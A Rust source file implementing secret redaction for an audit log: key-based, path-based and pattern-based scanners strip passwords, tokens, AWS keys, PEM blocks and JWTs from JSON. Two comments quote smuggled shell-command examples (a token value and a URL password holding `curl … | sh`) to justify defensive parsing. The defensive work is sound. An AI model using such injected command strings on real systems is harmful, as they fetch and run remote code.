//! Redaction: secrets are removed from arguments and outputs before a record is written.
//!
//! Three layers, applied in order to a JSON value:
//!
//! 1. configured field paths (`FieldPath`): the whole value at the path becomes
//!    `"[REDACTED]"`;
//! 2. sensitive keys: a string or number under a key such as `password`, `api_key`,
//!    `client_secret`, `*_token` or `authorization` becomes `"[REDACTED]"`;
//! 3. detectors, run over every remaining string: `Authorization:` header values and
//!    bearer tokens, AWS access key ids (`AKIA…`/`ASIA…`), PEM private key blocks, passwords
//!    in URLs (`scheme://user:[REDACTED]@host`), `password=`/`"password": "…"`-style
//!    assignments (also `secret`, `token`, `api_key`, `aws_secret_access_key`, …), JSON Web
//!    Tokens, and well-known token prefixes (GitHub, Slack, Stripe, OpenAI, Google API keys).
//!
//! The detectors are hand-written scanners rather than regular expressions: each pattern
//! is a literal anchor plus a character class, the scanners allocate only when they find
//! something, and the crate keeps no regex engine on the write path. Redaction errs on the
//! side of removing too much: a false positive costs some forensic detail, a false
//! negative leaks a credential into a log that is kept forever.
//!
//! Configured paths apply to every form of a value's fields, not only to the value as it
//! is: a string holding JSON, and an MCP tool result's structured content and JSON text
//! blocks (`redact/forms.rs`).
//!
//! Redaction is idempotent: redacting twice gives the same value as redacting once.

mod forms;
mod quoted;

pub use quoted::Quoted;

use std::str::FromStr;
use std::sync::LazyLock;

use memchr::memmem::Finder;
use serde_json::Value;

use crate::error::AuditError;

/// What replaces a secret.
pub const REDACTED: &str = "[REDACTED]";

/// A configured path to redact: keys separated by dots. `*` matches any one key, `**` any
/// number of levels (none included). Keys match regardless of ASCII case. Arrays are
/// transparent: `items.token` is the `token` of every element of the array `items`.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct FieldPath {
    segments: Vec<Segment>,
}

#[derive(Debug, Clone, PartialEq, Eq)]
enum Segment {
    Key(String),
    Any,
    AnyDepth,
}

impl FieldPath {
    pub fn parse(path: &str) -> Result<FieldPath, AuditError> {
        let bad = || AuditError::FieldPath(path.to_owned());
        let mut segments = Vec::new();
        for part in path.split('.') {
            segments.push(match part {
                "" => return Err(bad()),
                "*" => Segment::Any,
                "**" => Segment::AnyDepth,
                key => Segment::Key(key.to_owned()),
            });
        }
        // A path must end at a named or any key, not at "every level".
        if matches!(segments.last(), Some(Segment::AnyDepth) | None) {
            return Err(bad());
        }
        Ok(FieldPath { segments })
    }
}

impl FromStr for FieldPath {
    type Err = AuditError;

    fn from_str(s: &str) -> Result<FieldPath, AuditError> {
        FieldPath::parse(s)
    }
}

/// What a redaction removed.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Redactions {
    /// How many values or substrings were replaced.
    pub count: usize,
    /// The kinds found (`field_path`, `sensitive_key`, `bearer_token`, …), sorted, unique.
    pub kinds: Vec<&'static str>,
}

impl Redactions {
    fn note(&mut self, kind: &'static str) {
        self.count += 1;
        if let Err(at) = self.kinds.binary_search(&kind) {
            self.kinds.insert(at, kind);
        }
    }
}

/// Redacts `value` in place: configured paths, sensitive keys, then detectors over every
/// string.
pub fn redact(value: &mut Value, field_paths: &[FieldPath]) -> Redactions {
    let mut found = Redactions::default();
    // Paths apply to the value and to the other forms its fields travel in (JSON text, an
    // MCP result's structured and text copies): `forms.rs`.
    forms::redact_paths(value, field_paths, &mut found);
    redact_tree(value, &mut found);
    found
}

/// Redacts the secrets the detectors find in one text. `None` when there are none.
pub fn redact_text(text: &str) -> Option<String> {
    let mut found = Redactions::default();
    redact_string(text, &mut found)
}

fn redact_path(value: &mut Value, segments: &[Segment], found: &mut Redactions) {
    let Some((first, rest)) = segments.split_first() else {
        if value.as_str() != Some(REDACTED) {
            *value = Value::String(REDACTED.to_owned());
            found.note("field_path");
        }
        return;
    };
    if let Value::Array(items) = value {
        for item in items {
            redact_path(item, segments, found);
        }
        return;
    }
    if *first == Segment::AnyDepth {
        // No level at all, then one or more.
        redact_path(value, rest, found);
        if let Value::Object(map) = value {
            for v in map.values_mut() {
                redact_path(v, segments, found);
            }
        }
        return;
    }
    if let Value::Object(map) = value {
        for (k, v) in map.iter_mut() {
            let matches = match first {
                Segment::Key(key) => k.eq_ignore_ascii_case(key),
                Segment::Any | Segment::AnyDepth => true,
            };
            if matches {
                redact_path(v, rest, found);
            }
        }
    }
}

fn redact_tree(value: &mut Value, found: &mut Redactions) {
    match value {
        Value::String(s) => {
            if let Some(clean) = redact_string(s, found) {
                *s = clean;
            }
        }
        Value::Array(items) => {
            for item in items {
                redact_tree(item, found);
            }
        }
        Value::Object(map) => {
            for (key, v) in map.iter_mut() {
                let secret_scalar = match v {
                    Value::String(s) => !s.is_empty() && s != REDACTED,
                    Value::Number(_) => true,
                    _ => false,
                };
                if secret_scalar && is_sensitive_key(key) {
                    *v = Value::String(REDACTED.to_owned());
                    found.note("sensitive_key");
                } else {
                    redact_tree(v, found);
                }
            }
        }
        Value::Null | Value::Bool(_) | Value::Number(_) => {}
    }
}

/// Keys whose values are secrets whatever they look like.
fn is_sensitive_key(key: &str) -> bool {
    const EXACT: [&str; 8] =
        ["pwd", "pass", "auth", "authorization", "cookie", "set_cookie", "credentials", "otp"];
    const SUFFIXES: [&str; 10] = [
        "password",
        "passwd",
        "passphrase",
        "secret",
        "token",
        "api_key",
        "apikey",
        "private_key",
        "secret_key",
        "access_key_secret",
    ];
    // Compared without allocating: ASCII case ignored, `-` read as `_`.
    let fold = |c: u8| if c == b'-' { b'_' } else { c.to_ascii_lowercase() };
    let ends_with = |suffix: &str| {
        key.len() >= suffix.len()
            && key.bytes().rev().zip(suffix.bytes().rev()).all(|(k, s)| fold(k) == s)
    };
    EXACT.iter().any(|e| e.len() == key.len() && ends_with(e))
        || SUFFIXES.iter().any(|s| ends_with(s))
}

/// A span of a text to replace.
#[derive(Debug, Clone, Copy)]
struct Span {
    start: usize,
    end: usize,
}

/// Redacts `text` until nothing more is found: a replacement can join what was around it
/// into a new match (`Authorization: <secret>password=` …), and redaction must be
/// idempotent. A second round is rarely needed; the loop is bounded all the same.
fn redact_string(text: &str, found: &mut Redactions) -> Option<String> {
    let mut current = redact_once(text, found)?;
    for _ in 0..8 {
        match redact_once(&current, found) {
            Some(next) => current = next,
            None => break,
        }
    }
    Some(current)
}

fn redact_once(text: &str, found: &mut Redactions) -> Option<String> {
    if text.len() < 8 {
        return None;
    }
    let mut spans: Vec<(Span, &'static str)> = Vec::new();
    let bytes = text.as_bytes();
    pem_blocks(bytes, &mut spans);
    authorization_values(bytes, &mut spans);
    bearer_tokens(bytes, &mut spans);
    url_passwords(bytes, &mut spans);
    assignments(bytes, &mut spans);
    aws_access_key_ids(bytes, &mut spans);
    jwts(bytes, &mut spans);
    prefixed_tokens(bytes, &mut spans);
    // A span that is already the replacement is not a new finding.
    spans.retain(|(s, _)| text.get(s.start..s.end).is_some_and(|t| t != REDACTED && !t.is_empty()));
    if spans.is_empty() {
        return None;
    }
    spans.sort_by_key(|(s, _)| (s.start, s.end));
    let mut out = String::with_capacity(text.len());
    let mut at = 0;
    let mut open = false;
    for (span, kind) in spans {
        if open && span.start <= at {
            // Overlaps or touches the previous span: one replacement covers both.
            at = at.max(span.end);
            continue;
        }
        out.push_str(text.get(at..span.start).unwrap_or_default());
        out.push_str(REDACTED);
        found.note(kind);
        at = span.end;
        open = true;
    }
    out.push_str(text.get(at..).unwrap_or_default());
    Some(out)
}

/// The first position at or after `from` where `needle` occurs, ignoring ASCII case
/// (`needle` is lower-case). Candidates are found by their first byte (`memchr2`, both
/// cases) rather than at every position: every audit payload and every answer of the MCP
/// gateway is searched for a dozen words, and a byte-by-byte scan was a tenth of a call.
fn find_ci(hay: &[u8], needle: &[u8], from: usize) -> Option<usize> {
    let first = *needle.first()?;
    let mut at = from;
    loop {
        let rest = hay.get(at..)?;
        let found = at + memchr::memchr2(first, first.to_ascii_uppercase(), rest)?;
        if hay.get(found..found + needle.len())?.eq_ignore_ascii_case(needle) {
            return Some(found);
        }
        at = found + 1;
    }
}

/// The detectors' fixed needles, each with its searcher built once: building one (its
/// byte-frequency ranking, its vector prefilter) cost more than searching the short
/// strings most JSON holds, and it was done per needle and per string.
struct Needles {
    begin: Finder<'static>,
    private_key: Finder<'static>,
    scheme: Finder<'static>,
    jwt: Finder<'static>,
    aws: [Finder<'static>; 2],
    prefixed: [Finder<'static>; PREFIXES.len()],
}

static NEEDLES: LazyLock<Needles> = LazyLock::new(|| Needles {
    begin: Finder::new(PEM_BEGIN),
    private_key: Finder::new(b"PRIVATE KEY"),
    scheme: Finder::new(b"://"),
    jwt: Finder::new(b"eyJ"),
    aws: [Finder::new(b"AKIA"), Finder::new(b"ASIA")],
    prefixed: PREFIXES.map(|(prefix, _, _)| Finder::new(prefix)),
});

/// Every occurrence of `finder`'s needle (exact case), overlapping ones included, found
/// with `memchr`'s vectorised substring search.
fn occurrences<'a>(hay: &'a [u8], finder: &'a Finder<'_>) -> impl Iterator<Item = usize> + 'a {
    let mut from = 0;
    std::iter::from_fn(move || {
        let i = from + finder.find(hay.get(from..)?)?;
        from = i + 1;
        Some(i)
    })
}

fn byte(hay: &[u8], i: usize) -> Option<u8> {
    hay.get(i).copied()
}

/// Length of the run of bytes from `from` that satisfy `class`.
fn run(hay: &[u8], from: usize, class: impl Fn(u8) -> bool) -> usize {
    hay.get(from..).map_or(0, |rest| rest.iter().take_while(|&&c| class(c)).count())
}

fn is_word(c: u8) -> bool {
    c.is_ascii_alphanumeric()
}

fn is_token_char(c: u8) -> bool {
    c.is_ascii_alphanumeric() || matches!(c, b'-' | b'.' | b'_' | b'~' | b'+' | b'/' | b'=')
}

const PEM_BEGIN: &[u8] = b"-----BEGIN ";

/// `-----BEGIN <label containing PRIVATE KEY>-----`, the key's lines after it (base64, and
/// the `Proc-Type:`/`DEK-Info:` headers of an encrypted key) and the matching END line when
/// it follows them. Only what is shaped like a key is taken: a line of anything else ends
/// the span, so that a BEGIN line cannot hide the text after it (a command shown to an
/// approver, or written to the log).
fn pem_blocks(hay: &[u8], spans: &mut Vec<(Span, &'static str)>) {
    for start in occurrences(hay, &NEEDLES.begin) {
        let label_start = start + PEM_BEGIN.len();
        let label_len = run(hay, label_start, |c| c.is_ascii_uppercase() || c == b' ');
        let label = hay.get(label_start..label_start + label_len).unwrap_or_default();
        if !hay.get(label_start + label_len..).is_some_and(|r| r.starts_with(b"-----")) {
            continue;
        }
        if occurrences(label, &NEEDLES.private_key).next().is_none() {
            continue;
        }
        let mut end_marker = b"-----END ".to_vec();
        end_marker.extend_from_slice(label);
        end_marker.extend_from_slice(b"-----");
        let mut end = label_start + label_len + b"-----".len();
        let mut headers = true;
        // Line by line: `end` is the end of the last line taken, before its line break.
        loop {
            let next = end + run(hay, end, |c| c == b'\r' || c == b'\n');
            if next == end || next >= hay.len() {
                break;
            }
            let line_len = run(hay, next, |c| c != b'\r' && c != b'\n');
            let line = hay.get(next..next + line_len).unwrap_or_default();
            let is_header =
                headers && (line.starts_with(b"Proc-Type: ") || line.starts_with(b"DEK-Info: "));
            let is_base64 =
                line.iter().all(|&c| c.is_ascii_alphanumeric() || matches!(c, b'+' | b'/' | b'='));
            if line.starts_with(&end_marker) {
                end = next + end_marker.len();
                break;
            }
            if !is_header && !is_base64 {
                break;
            }
            headers &= is_header;
            end = next + line_len;
        }
        spans.push((Span { start, end }, "private_key"));
    }
}

/// How a value is quoted: the quote character, and whether it is backslash-escaped (JSON
/// inside a JSON string: `{\"password\":\"…\"}`).
#[derive(Debug, Clone, Copy)]
struct Quote {
    quote: u8,
    escaped: bool,
}

fn quote_at(hay: &[u8], i: usize) -> Option<(Quote, usize)> {
    match (byte(hay, i), byte(hay, i + 1)) {
        (Some(b'\\'), Some(q @ (b'"' | b'\''))) => Some((Quote { quote: q, escaped: true }, 2)),
        (Some(q @ (b'"' | b'\'')), _) => Some((Quote { quote: q, escaped: false }, 1)),
        _ => None,
    }
}

/// Skips `["']? ws* [:=] ws* ["']?` after a key word. Returns the value's start and its
/// opening quote, if any.
fn separator(hay: &[u8], mut i: usize) -> Option<(usize, Option<Quote>)> {
    if let Some((_, len)) = quote_at(hay, i) {
        i += len;
    }
    i += run(hay, i, |c| c == b' ' || c == b'\t');
    if !matches!(byte(hay, i), Some(b':' | b'=')) {
        return None;
    }
    i += 1;
    i += run(hay, i, |c| c == b' ' || c == b'\t');
    match quote_at(hay, i) {
        Some((quote, len)) => Some((i + len, Some(quote))),
        None => Some((i, None)),
    }
}

/// The end of a value starting at `start`: its closing quote when quoted, else the first
/// delimiter.
///
/// A quoted value is taken whole only when it could be a credential: closed, on one line,
/// and holding neither the other quote character nor a command's characters (a backtick,
/// `;`, `|`, `&`, `<`, `>`, `$(`). Otherwise only its first token is: a value like
/// `token: '"; curl … | sh; echo "'` must not hide a command from an approver who reads
/// the arguments, nor from the log. A password holding such characters then keeps only
/// its first part hidden, a leak judged smaller than a hidden command.
fn value_end(hay: &[u8], start: usize, quote: Option<Quote>) -> usize {
    if hay.get(start..).is_some_and(|rest| rest.starts_with(REDACTED.as_bytes())) {
        return start + REDACTED.len();
    }
    let token_end = start + run(hay, start, is_credential_char);
    let Some(Quote { quote, escaped }) = quote else { return token_end };
    let mut i = start;
    let close = loop {
        let Some(c) = byte(hay, i) else { return token_end };
        match (c, escaped) {
            // Escaped quoting closes at `\"`; a plain quote inside does not count.
            (b'\\', true) if byte(hay, i + 1) == Some(quote) => break i,
            // Plain quoting closes at an unescaped quote; `\x` is one escaped character.
            (b'\\', false) => i += 2,
            (c, false) if c == quote => break i,
            _ => i += 1,
        }
    };
    let other = if quote == b'"' { b'\'' } else { b'"' };
    let value = hay.get(start..close).unwrap_or_default();
    let commands = value.iter().any(|&c| {
        c == other || matches!(c, b'\n' | b'\r' | b'`' | b';' | b'|' | b'&' | b'<' | b'>')
    }) || value.windows(2).any(|w| w == b"$(");
    if commands { token_end } else { close }
}

/// A byte of an unquoted credential: not a space, a quote or a delimiter of the text around
/// it (JSON, a query string, a shell command).
fn is_credential_char(c: u8) -> bool {
    !c.is_ascii_whitespace()
        && !matches!(
            c,
            b'&' | b','
                | b';'
                | b'}'
                | b']'
                | b')'
                | b'('
                | b'"'
                | b'\''
                | b'\\'
                | b'`'
                | b'|'
                | b'<'
                | b'>'
        )
}

/// `Authorization: <scheme> <credentials>` (header, JSON or query form): the credentials.
fn authorization_values(hay: &[u8], spans: &mut Vec<(Span, &'static str)>) {
    let mut from = 0;
    while let Some(at) = find_ci(hay, b"authorization", from) {
        from = at + 1;
        let Some((mut start, quote)) = separator(hay, at + b"authorization".len()) else {
            continue;
        };
        // Keep the scheme (`Bearer`, `Basic`, `token`, …) when there is one.
        let scheme = run(hay, start, |c| c.is_ascii_alphabetic());
        if scheme > 0 && byte(hay, start + scheme) == Some(b' ') {
            start += scheme + run(hay, start + scheme, |c| c == b' ');
        }
        let end = match quote {
            Some(_) => value_end(hay, start, quote),
            None if hay.get(start..).is_some_and(|r| r.starts_with(REDACTED.as_bytes())) => {
                start + REDACTED.len()
            }
            None => value_end(hay, start, None),
        };
        if end > start {
            spans.push((Span { start, end }, "authorization"));
        }
    }
}

/// `Bearer <token>` anywhere (tokens of 8 or more characters).
fn bearer_tokens(hay: &[u8], spans: &mut Vec<(Span, &'static str)>) {
    let mut from = 0;
    while let Some(at) = find_ci(hay, b"bearer", from) {
        from = at + 1;
        if at > 0 && byte(hay, at - 1).is_some_and(is_word) {
            continue;
        }
        let mut start = at + b"bearer".len();
        let gap = run(hay, start, |c| c == b' ' || c == b'\t');
        if gap == 0 {
            continue;
        }
        start += gap;
        let len = run(hay, start, is_token_char);
        if len >= 8 {
            spans.push((Span { start, end: start + len }, "bearer_token"));
        }
    }
}

/// `scheme://user:password@host`: the password.
fn url_passwords(hay: &[u8], spans: &mut Vec<(Span, &'static str)>) {
    for at in occurrences(hay, &NEEDLES.scheme) {
        let scheme_ok = at > 0 && byte(hay, at - 1).is_some_and(|c| c.is_ascii_alphanumeric());
        if !scheme_ok {
            continue;
        }
        let authority_start = at + 3;
        let len = run(hay, authority_start, |c| {
            !c.is_ascii_whitespace()
                && !matches!(c, b'/' | b'?' | b'#' | b'"' | b'\'' | b'<' | b'>')
        });
        let authority = hay.get(authority_start..authority_start + len).unwrap_or_default();
        let Some(user_end) = authority.iter().rposition(|&c| c == b'@') else { continue };
        let userinfo = authority.get(..user_end).unwrap_or_default();
        let Some(colon) = userinfo.iter().position(|&c| c == b':') else { continue };
        let start = authority_start + colon + 1;
        // Up to the `@`, unless a command's character comes first: a password is not
        // allowed to hide `;curl${IFS}evil|sh;` written where a password would be.
        let end = (authority_start + user_end).min(value_end(hay, start, None));
        if end > start {
            spans.push((Span { start, end }, "url_password"));
        }
    }
}

/// `password=…`, `"password": "…"`, `aws_secret_access_key = …` and the like.
fn assignments(hay: &[u8], spans: &mut Vec<(Span, &'static str)>) {
    const WORDS: [&[u8]; 12] = [
        b"password",
        b"passwd",
        b"passphrase",
        b"secret",
        b"token",
        b"api_key",
        b"apikey",
        b"api-key",
        b"private_key",
        b"secret_key",
        b"aws_secret_access_key",
        b"client_secret",
    ];
    for word in WORDS {
        let mut from = 0;
        while let Some(at) = find_ci(hay, word, from) {
            from = at + 1;
            let Some((start, quote)) = separator(hay, at + word.len()) else { continue };
            let end = value_end(hay, start, quote);
            if end > start {
                spans.push((Span { start, end }, "assignment"));
            }
        }
    }
}

/// AWS access key ids: `AKIA` or `ASIA` and 16 upper-case letters or digits.
fn aws_access_key_ids(hay: &[u8], spans: &mut Vec<(Span, &'static str)>) {
    for finder in &NEEDLES.aws {
        for start in occurrences(hay, finder) {
            if start > 0 && byte(hay, start - 1).is_some_and(is_word) {
                continue;
            }
            let len = run(hay, start + 4, |c| c.is_ascii_uppercase() || c.is_ascii_digit());
            let after = byte(hay, start + 4 + len);
            if len == 16 && !after.is_some_and(is_word) {
                spans.push((Span { start, end: start + 20 }, "aws_access_key_id"));
            }
        }
    }
}

fn is_base64url(c: u8) -> bool {
    c.is_ascii_alphanumeric() || c == b'-' || c == b'_'
}

/// JSON Web Tokens: `eyJ<header>.<payload>.<signature>`.
fn jwts(hay: &[u8], spans: &mut Vec<(Span, &'static str)>) {
    for start in occurrences(hay, &NEEDLES.jwt) {
        if start > 0 && byte(hay, start - 1).is_some_and(is_base64url) {
            continue;
        }
        let header = run(hay, start, is_base64url);
        if header < 10 || byte(hay, start + header) != Some(b'.') {
            continue;
        }
        let payload_start = start + header + 1;
        let payload = run(hay, payload_start, is_base64url);
        if payload < 8 || byte(hay, payload_start + payload) != Some(b'.') {
            continue;
        }
        let signature_start = payload_start + payload + 1;
        let end = signature_start + run(hay, signature_start, is_base64url);
        spans.push((Span { start, end }, "jwt"));
    }
}

/// Tokens recognisable by their prefix: (prefix, minimum length of the rest, kind).
const PREFIXES: [(&[u8], usize, &str); 14] = [
    (b"ghp_", 30, "github_token"),
    (b"gho_", 30, "github_token"),
    (b"ghu_", 30, "github_token"),
    (b"ghs_", 30, "github_token"),
    (b"ghr_", 30, "github_token"),
    (b"github_pat_", 30, "github_token"),
    (b"xoxb-", 10, "slack_token"),
    (b"xoxp-", 10, "slack_token"),
    (b"xoxa-", 10, "slack_token"),
    (b"xoxs-", 10, "slack_token"),
    (b"sk_live_", 16, "stripe_key"),
    (b"rk_live_", 16, "stripe_key"),
    (b"sk-", 20, "api_key"),
    (b"AIza", 30, "google_api_key"),
];

/// Tokens recognisable by their prefix ([`PREFIXES`]).
fn prefixed_tokens(hay: &[u8], spans: &mut Vec<(Span, &'static str)>) {
    for ((prefix, min, kind), finder) in PREFIXES.iter().zip(&NEEDLES.prefixed) {
        for start in occurrences(hay, finder) {
            if start > 0 && byte(hay, start - 1).is_some_and(is_word) {
                continue;
            }
            let len = run(hay, start + prefix.len(), is_base64url);
            if len >= *min {
                spans.push((Span { start, end: start + prefix.len() + len }, *kind));
            }
        }
    }
}

#[cfg(test)]
mod tests;
